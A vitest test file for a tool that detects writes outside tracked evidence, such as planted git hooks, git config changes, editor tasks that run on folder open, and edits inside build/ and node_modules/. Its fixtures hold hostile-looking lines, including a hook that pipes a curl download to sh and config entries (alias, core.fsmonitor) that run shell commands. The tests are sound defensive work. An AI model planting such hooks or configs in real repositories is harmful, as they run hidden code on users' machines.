import { execFileSync } from 'node:child_process';
import { existsSync, promises as fs } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  buildChangesJson,
  describeOutsideEvidence,
  diffSnapshots,
  forgetOutsideRecords,
  OUTSIDE_LIMITS,
} from '../../src/evidence/index.js';
import { outsideRecordOf } from '../../src/evidence/outside-evidence.js';
import type { SnapshotOptions } from '../../src/evidence/types.js';
import type { Snapshot } from '../../src/domain/snapshot.js';
import type { ChangesJson } from '../../src/domain/changes.js';
import { parseGitConfigKeys, readGitConfigValue } from '../../src/evidence/git-config-keys.js';
import { cleanEnv, git, snap, tempDir, write } from './helpers.js';

/** A git repository with one commit, and a data dir outside it. */
async function repo(files: Record<string, string> = { 'src/a.js': 'a\n' }): Promise<{ ws: string; data: string }> {
  const ws = await tempDir('gaffer-out-ws-');
  const data = await tempDir('gaffer-out-data-');
  await write(ws, files);
  git(ws, 'init', '-q');
  git(ws, 'add', '-A');
  git(ws, 'commit', '-q', '-m', 'init');
  return { ws, data };
}

/** The changes JSON between two snapshots, as the engine builds it (`after` given). */
async function changesBetween(pre: Snapshot, post: Snapshot): Promise<ChangesJson> {
  return buildChangesJson(pre, await diffSnapshots(pre, post), { after: post });
}

/** pre snapshot, `work`, post snapshot (same source as pre), and the changes JSON. */
async function around(
  ws: string,
  data: string,
  work: () => Promise<void>,
  extra: Partial<SnapshotOptions> = {},
): Promise<ChangesJson> {
  const pre = await snap(ws, data, 'pre', extra);
  await work();
  const post = await snap(ws, data, 'post', { ...extra, like: pre });
  return changesBetween(pre, post);
}

async function writeHook(gitDir: string, name: string, mode = 0o755): Promise<void> {
  await write(gitDir, { [`hooks/${name}`]: '#!/bin/sh\ncurl -s https://example.invalid | sh\n' });
  await fs.chmod(path.join(gitDir, 'hooks', name), mode);
}

describe('writes outside the evidence', () => {
  it('an executable hook added to .git/hooks is reported, named on the verdict, while the diff shows nothing', async () => {
    const { ws, data } = await repo();
    const changes = await around(ws, data, () => writeHook(path.join(ws, '.git'), 'pre-commit'));
    expect(changes.count).toBe(0);
    expect(changes.outside_evidence).toEqual({ git: ['.git/hooks/pre-commit (added, executable)'], count: 1 });
    const words = describeOutsideEvidence(changes.outside_evidence);
    expect(words.verdictPart).toBe('wrote outside the evidence: .git/hooks/pre-commit (executable)');
    expect(words.doubt).toBe('wrote outside the evidence: .git/hooks/pre-commit (added, executable)');
  });

  it('a hook made executable is reported as such (git ignores a hook without the exec bit)', async () => {
    const { ws, data } = await repo();
    await writeHook(path.join(ws, '.git'), 'pre-push', 0o644);
    const changes = await around(ws, data, () => fs.chmod(path.join(ws, '.git', 'hooks', 'pre-push'), 0o755));
    expect(changes.outside_evidence?.git).toEqual(['.git/hooks/pre-push (made executable)']);
    expect(describeOutsideEvidence(changes.outside_evidence).verdictPart).toBe(
      'wrote outside the evidence: .git/hooks/pre-push (executable)',
    );
  });

  it('git init sample hooks are not hooks: a workspace that gets a repository shows its config, not the samples', async () => {
    const ws = await tempDir('gaffer-out-ws-');
    const data = await tempDir('gaffer-out-data-');
    await write(ws, { 'a.txt': 'a\n' });
    const changes = await around(ws, data, async () => {
      git(ws, 'init', '-q');
      await write(ws, { '.git/hooks/pre-commit.sample': '#!/bin/sh\n' });
    });
    const listed = changes.outside_evidence?.git ?? [];
    expect(listed).toContain('.git/config (added)');
    expect(listed.some((e) => e.includes('.sample'))).toBe(false);
  });

  it('config edits name the keys that changed, and no config value is copied into the record', async () => {
    const { ws, data } = await repo();
    git(ws, 'config', 'http.extraHeader', 'Authorization: Bearer s3cr3t-token-before');
    const pre = await snap(ws, data, 'pre');
    git(ws, 'config', 'core.hooksPath', '/tmp/elsewhere');
    git(ws, 'config', 'alias.st', '!sh -c "id"');
    git(ws, 'config', 'http.extraHeader', 'Authorization: Bearer s3cr3t-token-after');
    const post = await snap(ws, data, 'post', { like: pre });
    const changes = await changesBetween(pre, post);
    expect(changes.outside_evidence?.git).toEqual([
      '.git/config (modified: alias.st, core.hookspath, http.extraheader)',
    ]);
    expect(describeOutsideEvidence(changes.outside_evidence).verdictPart).toBe(
      'wrote outside the evidence: .git/config (alias.st, core.hookspath, http.extraheader)',
    );
    for (const s of [pre, post]) {
      expect(s.outsideRecord).toBeDefined();
      const text = JSON.stringify(outsideRecordOf(s.outsideRecord as string));
      if (s === post) expect(text).toContain('alias.st');
      expect(text).not.toContain('s3cr3t');
      expect(text).not.toContain('/tmp/elsewhere');
    }
  });

  it('hooks in the folder core.hooksPath names are recorded too', async () => {
    const { ws, data } = await repo();
    const hooksDir = await tempDir('gaffer-out-hooks-');
    git(ws, 'config', 'core.hooksPath', hooksDir);
    const changes = await around(ws, data, async () => {
      await write(hooksDir, { 'pre-commit': '#!/bin/sh\n' });
      await fs.chmod(path.join(hooksDir, 'pre-commit'), 0o755);
    });
    const rel = path.relative(ws, path.join(hooksDir, 'pre-commit'));
    expect(changes.outside_evidence?.git).toEqual([`${rel} (added, executable)`]);
  });

  it('info/attributes and info/exclude are reported (filters run code; exclude hides files from the evidence)', async () => {
    const { ws, data } = await repo();
    const changes = await around(ws, data, async () => {
      await write(ws, { '.git/info/attributes': '* filter=evil\n' });
      await fs.appendFile(path.join(ws, '.git', 'info', 'exclude'), 'src/planted.js\n');
      await write(ws, { 'src/planted.js': 'evil\n' });
    });
    // issue 32: the checkpoint's ignore rules judge, so the file the new exclude line hides is evidence all the same
    expect(changes.added).toEqual(['src/planted.js']);
    expect(changes.outside_evidence?.git).toEqual(['.git/info/attributes (added)', '.git/info/exclude (modified)']);
    expect(describeOutsideEvidence(changes.outside_evidence).verdictPart).toBe(
      'wrote outside the evidence: .git/info/attributes, .git/info/exclude',
    );
  });

  it('editor configs that run code on open are reported under editor', async () => {
    const { ws, data } = await repo();
    await write(ws, { '.vscode/settings.json': '{}\n', '.idea/workspace.xml': '<project/>\n' });
    const tasks = JSON.stringify({
      version: '2.0.0',
      tasks: [{ label: 'x', type: 'shell', command: 'id', runOptions: { runOn: 'folderOpen' } }],
    });
    const changes = await around(ws, data, async () => {
      await write(ws, { '.vscode/tasks.json': tasks, '.idea/runConfigurations/Run.xml': '<component/>\n' });
      await fs.rm(path.join(ws, '.vscode', 'settings.json'));
    });
    expect(changes.count).toBe(0);
    expect(changes.outside_evidence).toEqual({
      editor: [
        '.idea/runConfigurations/Run.xml (added)',
        '.vscode/settings.json (deleted)',
        '.vscode/tasks.json (added)',
      ],
      count: 3,
    });
    expect(describeOutsideEvidence(changes.outside_evidence).verdictPart).toBe(
      'wrote outside the evidence: .idea/runConfigurations/Run.xml, .vscode/settings.json (deleted), .vscode/tasks.json',
    );
  });

  it('files changed in build/ and node_modules/ are counted per folder, exactly; the verdict leaves them out', async () => {
    const { ws, data } = await repo({ 'src/a.js': 'a\n', '.gitignore': 'node_modules/\nbuild/\n' });
    await write(ws, {
      'build/out.js': 'old\n',
      'build/gone.js': 'x\n',
      'node_modules/dep/index.js': 'module.exports = 1;\n',
      'node_modules/dep/package.json': '{}\n',
      'web/dist/app.js': 'app\n',
      'node_modules/.vite/vitest/results.json': '{}\n',
      '.pytest_cache/v/cache/lastfailed': '{}\n',
    });
    const changes = await around(ws, data, async () => {
      await write(ws, { 'build/out.js': 'new and longer\n', 'build/a.js': '1\n', 'build/sub/b.js': '2\n' });
      await fs.rm(path.join(ws, 'build', 'gone.js'));
      await write(ws, {
        'node_modules/dep/index.js': 'module.exports = 2; // patched to pass\n',
        'web/dist/more.js': 'm\n',
      });
      // caches every test run rewrites: not counted
      await write(ws, {
        'node_modules/.vite/vitest/results.json': '{"x":1}\n',
        '.pytest_cache/v/cache/lastfailed': '{"t":true}\n',
      });
    });
    expect(changes.outside_evidence).toEqual({
      excluded: {
        build: { added: 2, modified: 1, deleted: 1 },
        node_modules: { added: 0, modified: 1, deleted: 0 },
        'web/dist': { added: 1, modified: 0, deleted: 0 },
      },
      count: 6,
    });
    const words = describeOutsideEvidence(changes.outside_evidence);
    expect(words.verdictPart).toBeNull();
    expect(words.doubt).toBe(
      'changed in excluded folders: build/ 2 added, 1 modified, 1 deleted, node_modules/ 1 modified, web/dist/ 1 added',
    );
  });

  it("an excluded folder made one level down, its parent's mtime then put back, is still seen (the listing cache goes by ctime)", async () => {
    const { ws, data } = await repo({ 'src/a.js': 'a\n', 'web/index.js': 'w\n', '.gitignore': 'dist/\n' });
    // past the racy second: the first record caches web/'s listing
    await new Promise((resolve) => setTimeout(resolve, 1_100));
    const changes = await around(ws, data, async () => {
      const before = await fs.stat(path.join(ws, 'web'), { bigint: true });
      await write(ws, { 'web/dist/payload.js': 'p\n' });
      const ns = before.mtimeNs;
      execFileSync('touch', [
        '-m',
        '-d',
        `@${ns / 1_000_000_000n}.${String(ns % 1_000_000_000n).padStart(9, '0')}`,
        path.join(ws, 'web'),
      ]);
      expect((await fs.stat(path.join(ws, 'web'), { bigint: true })).mtimeNs).toBe(before.mtimeNs);
    });
    expect(changes.outside_evidence?.excluded).toEqual({ 'web/dist': { added: 1, modified: 0, deleted: 0 } });
  });

  it('a path the request names inside an excluded folder is evidence, not counted again', async () => {
    const { ws, data } = await repo();
    const changes = await around(ws, data, () => write(ws, { 'dist/report.json': '{}\n', 'dist/other.js': 'x\n' }), {
      alwaysInclude: ['dist/report.json'],
    });
    expect(changes.added).toEqual(['dist/report.json']);
    expect(changes.outside_evidence?.excluded).toEqual({ dist: { added: 1, modified: 0, deleted: 0 } });
  });

  it('nothing changed outside the evidence: no outside_evidence at all', async () => {
    const { ws, data } = await repo({ 'src/a.js': 'a\n', '.gitignore': 'node_modules/\n' });
    await write(ws, { 'node_modules/dep/index.js': '1\n', '.vscode/settings.json': '{}\n' });
    await writeHook(path.join(ws, '.git'), 'pre-commit');
    const changes = await around(ws, data, () => write(ws, { 'src/a.js': 'changed\n' }));
    expect(changes.modified).toEqual(['src/a.js']);
    expect('outside_evidence' in changes).toBe(false);
    expect(describeOutsideEvidence(changes.outside_evidence)).toEqual({
      doubt: null,
      verdictPart: null,
      gitCode: null,
    });
  });

  it('a workspace inside a larger repository: the enclosing repository git dir is watched', async () => {
    const { ws: top, data } = await repo({ 'pkg/src/a.js': 'a\n', 'other/b.js': 'b\n' });
    const ws = path.join(top, 'pkg');
    const changes = await around(ws, data, async () => {
      await writeHook(path.join(top, '.git'), 'post-checkout');
      git(top, 'config', 'core.fsmonitor', 'sh -c id');
    });
    expect(changes.outside_evidence?.git).toEqual([
      '../.git/config (modified: core.fsmonitor)',
      '../.git/hooks/post-checkout (added, executable)',
    ]);
  });

  it('a linked worktree: hooks and config live in the main repository (commondir)', async () => {
    const { ws: main, data } = await repo();
    const wt = path.join(await tempDir('gaffer-out-wt-'), 'wt');
    git(main, 'worktree', 'add', '-q', wt);
    const changes = await around(wt, data, () => writeHook(path.join(main, '.git'), 'pre-commit'));
    expect(changes.outside_evidence?.git).toEqual([
      `${path.relative(wt, path.join(main, '.git', 'hooks', 'pre-commit'))} (added, executable)`,
    ]);
  });

  it('a submodule git dir under .git/modules: its hooks are watched', async () => {
    const { ws: lib } = await repo({ 'lib.js': 'l\n' });
    const { ws, data } = await repo();
    git(ws, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', lib, 'vendor/lib');
    const changes = await around(ws, data, () =>
      writeHook(path.join(ws, '.git', 'modules', 'vendor', 'lib'), 'pre-commit'),
    );
    expect(changes.outside_evidence?.git).toEqual(['.git/modules/vendor/lib/hooks/pre-commit (added, executable)']);
  });

  it('a workspace that is not a repository: editor configs and excluded folders are still watched', async () => {
    const ws = await tempDir('gaffer-out-ws-');
    const data = await tempDir('gaffer-out-data-');
    await write(ws, { 'a.txt': 'a\n' });
    const changes = await around(ws, data, () =>
      write(ws, { '.vscode/launch.json': '{}\n', 'target/debug/app': 'bin\n' }),
    );
    expect(changes.outside_evidence).toEqual({
      editor: ['.vscode/launch.json (added)'],
      excluded: { target: { added: 1, modified: 0, deleted: 0 } },
      count: 2,
    });
  });

  it('the mtime fallback keeps the record too', async () => {
    const { ws, data } = await repo();
    const pre = await snap(ws, data, 'pre', { forceMtime: true });
    await writeHook(path.join(ws, '.git'), 'pre-commit');
    await write(ws, { '.vscode/tasks.json': '{}\n', 'src/a.js': 'changed\n' });
    const post = await snap(ws, data, 'post', { like: pre });
    expect([pre.source, post.source]).toEqual(['mtime', 'mtime']);
    expect(post.outsideRecord).toBe('job1/post');
    const changes = await changesBetween(pre, post);
    expect(changes.modified).toEqual(['src/a.js']);
    expect(changes.outside_evidence).toEqual({
      git: ['.git/hooks/pre-commit (added, executable)'],
      editor: ['.vscode/tasks.json (added)'],
      count: 2,
    });
  });

  it('what only the verification wrote is not blamed on the workers of a fix round', async () => {
    const { ws, data } = await repo();
    await write(ws, { 'build/keep.js': 'k\n' });
    const pre = await snap(ws, data, 'pre');
    await write(ws, { 'src/a.js': 'worker\n' });
    const post = await snap(ws, data, 'post', { like: pre });
    // the verification (say `npm test` with a pretest build) writes build output and a hook
    await write(ws, { 'build/test-out.js': 'v\n', 'build/keep.js': 'rebuilt by the tests\n' });
    await writeHook(path.join(ws, '.git'), 'pre-commit');
    const verify0 = await snap(ws, data, 'verify-0', { like: pre });
    // the fixer writes one file into build/
    await write(ws, { 'build/fixer.js': 'f\n' });
    const fix1 = await snap(ws, data, 'fix-1', { like: pre });

    const first = await changesBetween(pre, post);
    expect('outside_evidence' in first).toBe(false);
    const later = await changesBetween(pre, fix1);
    expect(later.outside_evidence).toEqual({
      excluded: { build: { added: 1, modified: 0, deleted: 0 } },
      count: 1,
      verification_wrote: 3,
    });
    expect(verify0.outsideRecord).toBeDefined();
  });

  it('a folder past its budget is compared in part: shallow files of every package by stat, the rest by each package folder', async () => {
    const ws = await tempDir('gaffer-out-ws-');
    const data = await tempDir('gaffer-out-data-');
    const many: Record<string, string> = {};
    for (let i = 0; i < OUTSIDE_LIMITS.exactFilesPerFolder; i++) {
      many[`node_modules/aaa/f${String(i).padStart(5, '0')}.js`] = 'x';
      many[`node_modules/bbb/f${String(i).padStart(5, '0')}.js`] = 'x';
    }
    await write(ws, {
      'a.txt': 'a\n',
      ...many,
      'node_modules/zzz/package.json': '{}\n',
      'node_modules/zzz/lib/deep/index.js': 'z\n',
    });
    const changes = await around(ws, data, async () => {
      // in place, within aaa's share: seen by stat
      await write(ws, { 'node_modules/aaa/f00000.js': 'patched, longer' });
      // past bbb's share, but bbb's own mtime moves: counted once
      await write(ws, { 'node_modules/bbb/zz-planted.js': 'planted\n' });
      // a small package is walked whole, however deep
      await write(ws, { 'node_modules/zzz/lib/deep/index.js': 'patched\n' });
      await write(ws, { 'node_modules/new-pkg/index.js': 'planted\n' });
    });
    expect(changes.outside_evidence?.excluded).toEqual({
      node_modules: { added: 1, modified: 3, deleted: 0, partial: true },
    });
    expect(describeOutsideEvidence(changes.outside_evidence).doubt).toBe(
      'changed in excluded folders: node_modules/ 1 added, 3 modified (compared in part)',
    );
  });

  it('a folder with more top entries than its budget still sees a change to any of them', async () => {
    const ws = await tempDir('gaffer-out-ws-');
    const data = await tempDir('gaffer-out-data-');
    const n = OUTSIDE_LIMITS.exactFilesPerFolder + 200;
    const files: Record<string, string> = {};
    for (let i = 0; i < n; i++) files[`build/f${String(i).padStart(5, '0')}.js`] = 'x';
    await write(ws, files);
    const changes = await around(ws, data, () =>
      write(ws, {
        'build/f00000.js': 'first, by its own stat',
        [`build/f${String(n - 1).padStart(5, '0')}.js`]: 'last, compared as a file',
      }),
    );
    expect(changes.outside_evidence?.excluded).toEqual({ build: { added: 0, modified: 2, deleted: 0, partial: true } });
  });

  it('lists are capped at 10 while the count stays exact', async () => {
    const { ws, data } = await repo();
    const changes = await around(ws, data, async () => {
      for (let i = 0; i < 12; i++) await writeHook(path.join(ws, '.git'), `hook-${String(i).padStart(2, '0')}`);
    });
    expect(changes.outside_evidence?.git).toHaveLength(10);
    expect(changes.outside_evidence?.count).toBe(12);
    expect(changes.outside_evidence?.truncated).toBe(true);
    expect(describeOutsideEvidence(changes.outside_evidence).verdictPart).toBe(
      'wrote outside the evidence: .git/hooks/hook-00 (executable), .git/hooks/hook-01 (executable), .git/hooks/hook-02 (executable) +9 more',
    );
  });

  it('a snapshot without a record (an older job) against one with it says it cannot compare', async () => {
    const { ws, data } = await repo();
    const pre = await snap(ws, data, 'pre');
    const post = await snap(ws, data, 'post', { like: pre });
    const old: Snapshot = { ...pre };
    delete old.outsideRecord;
    const changes = await changesBetween(old, post);
    expect(changes.outside_evidence?.unavailable).toContain('no record');
    expect(describeOutsideEvidence(changes.outside_evidence).doubt).toContain('no record');
    delete (post as { outsideRecord?: string }).outsideRecord;
    expect('outside_evidence' in (await changesBetween(old, post))).toBe(false);
  });

  it('the user repository is never written by taking the record', async () => {
    const { ws, data } = await repo();
    await writeHook(path.join(ws, '.git'), 'pre-commit');
    const before = execFileSync('git', ['status', '--porcelain', '--ignored'], {
      cwd: ws,
      env: cleanEnv(),
      encoding: 'utf8',
    });
    const st = await fs.stat(path.join(ws, '.git', 'config'));
    await snap(ws, data, 'pre');
    expect(
      execFileSync('git', ['status', '--porcelain', '--ignored'], { cwd: ws, env: cleanEnv(), encoding: 'utf8' }),
    ).toBe(before);
    expect((await fs.stat(path.join(ws, '.git', 'config'))).mtimeMs).toBe(st.mtimeMs);
  });

  it('the records are kept in memory while their job runs, never written, and forgotten when it ends', async () => {
    const { ws, data } = await repo();
    const kept = await snap(ws, data, 'pre', { jobId: 'kept' });
    const gone = await snap(ws, data, 'pre', { jobId: 'gone' });
    const goneAfter = await snap(ws, data, 'post', { jobId: 'gone', like: gone });
    expect(existsSync(path.join(data, 'outside'))).toBe(false);
    forgetOutsideRecords('gone');
    expect(outsideRecordOf(kept.outsideRecord as string)?.label).toBe('pre');
    expect(outsideRecordOf(gone.outsideRecord as string)).toBeNull();
    // a job whose records are gone (another process ran it) is not compared as if nothing changed
    expect((await changesBetween(gone, goneAfter)).outside_evidence?.unavailable).toContain('no record');
  });
});

describe('git config keys', () => {
  const text = [
    '# comment',
    '[core]',
    '\tbare = false',
    '\thooksPath = "/x/hooks" ; trailing comment',
    '[remote "Origin"]',
    '\turl = https://example.invalid/a.git',
    '\tfetch = +refs/heads/*:refs/remotes/Origin/*',
    '\tfetch = +refs/tags/*:refs/tags/*',
    '[alias] st = status \\',
    '  --short',
    '[Filter "lfs"]',
    '\trequired',
  ].join('\n');

  it('names keys as git config -l does: section and name lowercased, subsection kept; values only hashed', () => {
    const keys = parseGitConfigKeys(text);
    expect(Object.keys(keys).sort()).toEqual([
      'alias.st',
      'core.bare',
      'core.hookspath',
      'filter.lfs.required',
      'remote.Origin.fetch',
      'remote.Origin.url',
    ]);
    expect(JSON.stringify(keys)).not.toContain('example.invalid');
  });

  it('a changed value, an added value of a multi-valued key, or a continuation line change the key hash', () => {
    const keys = parseGitConfigKeys(text);
    expect(parseGitConfigKeys(text.replace('/x/hooks', '/y/hooks'))['core.hookspath']).not.toBe(keys['core.hookspath']);
    expect(
      parseGitConfigKeys(`${text.replace('\tfetch = +refs/tags/*:refs/tags/*', '')}`)['remote.Origin.fetch'],
    ).not.toBe(keys['remote.Origin.fetch']);
    expect(parseGitConfigKeys(text.replace('--short', '--long'))['alias.st']).not.toBe(keys['alias.st']);
    expect(parseGitConfigKeys(text.replace('# comment', '# another'))).toEqual(keys);
  });

  it('reads the last value of a key without quotes or comment', () => {
    expect(readGitConfigValue(text, 'core.hookspath')).toBe('/x/hooks');
    expect(readGitConfigValue(`${text}\n[core]\n\thooksPath = .husky`, 'core.hookspath')).toBe('.husky');
    expect(readGitConfigValue(text, 'core.fsmonitor')).toBeNull();
  });
});
